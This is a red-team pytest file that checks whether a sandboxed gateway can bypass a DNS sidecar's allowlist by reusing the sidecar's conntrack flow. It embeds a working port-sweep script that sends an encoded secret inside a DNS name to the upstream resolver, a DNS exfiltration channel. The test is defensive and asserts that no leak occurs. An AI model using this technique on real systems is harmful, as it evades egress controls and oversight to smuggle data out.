"""RT-1: the gateway reuses the 5-tuple of the sidecar's own UDP DNS query to the upstream
resolver. The conntrack entry the sidecar (UID 1337, nat RETURN) created is ESTABLISHED,
so the gateway's datagrams from the same source port skip the nat REDIRECT (NAT is
decided on a flow's first packet only) and pass the filter's
`--ctstate RELATED,ESTABLISHED -j ACCEPT`. Result: raw DNS to the upstream resolver,
for any name, bypassing the DNS listener's policy (the sidecar refuses unlisted names and
"never asks upstream"). With a cluster resolver that recurses, that is a DNS tunnel to the
attacker's authoritative server.

Run: .venv/bin/pytest redteam/pod/test_conntrack_reuse.py -s -p no:cacheprovider
"""
import json
import shutil
import time
from pathlib import Path

from tests.support.netns import child_python

SWEEP = r'''
import json, random, socket, struct, sys, time
UPSTREAM = ("10.77.0.2", 53)
def q(name, qtype=1):
    qid = random.randrange(65536)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", qtype, 1)
# 1. make the sidecar ask its upstream (the answer TTL is short; the name is allowed)
trig = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); trig.settimeout(3)
trig.sendto(q("api.openai.com"), ("10.77.0.3", 53))   # redirected to the sidecar
try: trig.recv(512)
except OSError: pass
# 2. sweep the ephemeral range: only a 5-tuple conntrack already knows gets through
lo, hi = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
hits, eperm, other, refused = [], 0, 0, 0
secret = "exfil-" + sys.argv[1] + ".only-upstream.example"
t0 = time.monotonic()
for base in range(lo, hi + 1, 500):
    batch = []
    for port in range(base, min(base + 500, hi + 1)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
        try:
            s.bind(("0.0.0.0", port))
            s.sendto(q(secret), UPSTREAM)
            batch.append((port, s))
        except PermissionError:
            eperm += 1; s.close()
        except OSError:
            other += 1; s.close()
    time.sleep(0.05)
    for port, s in batch:
        try:
            a = s.recv(512)
            rcode = a[3] & 0xF
            if rcode == 5: refused += 1          # REFUSED: the sidecar's listener (redirected)
            else: hits.append({"port": port, "rcode": rcode, "answer": a.hex()})
        except OSError:
            pass
        s.close()
    if hits: break
elapsed = time.monotonic() - t0
if hits:  # the channel is two-way: ask the upstream resolver anything, read the answer
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    s.bind(("0.0.0.0", hits[0]["port"]))
    s.sendto(q("only-upstream.example"), UPSTREAM)
    a = s.recv(512)
    hits[0]["only_upstream_answer_ip"] = ".".join(str(b) for b in a[-4:])
print(json.dumps({"hits": hits, "eperm": eperm, "other": other, "refused": refused, "elapsed": elapsed}))
'''


def test_gateway_reuses_sidecar_dns_flow(world):
    time.sleep(6)  # the sidecar's cached answer (TTL 5 s) expires
    script = world.work / "sweep.py"
    script.write_text(SWEEP)
    before = list(world.upstream.questions)
    proc = world.run(child_python(), str(script), "c2VjcmV0", timeout=120)
    print(proc.stdout, proc.stderr[-2000:])
    result = json.loads(proc.stdout)
    asked = world.upstream.questions[len(before):]
    print("upstream resolver saw:", asked)
    # The sidecar's DNS listener refuses unlisted names and never asks upstream for them:
    # any such question upstream came from the gateway, straight past the sidecar.
    leaked = [n for n, _ in asked if n != "api.openai.com"]
    assert not leaked, f"gateway reached the upstream resolver directly: {leaked}, {result}"
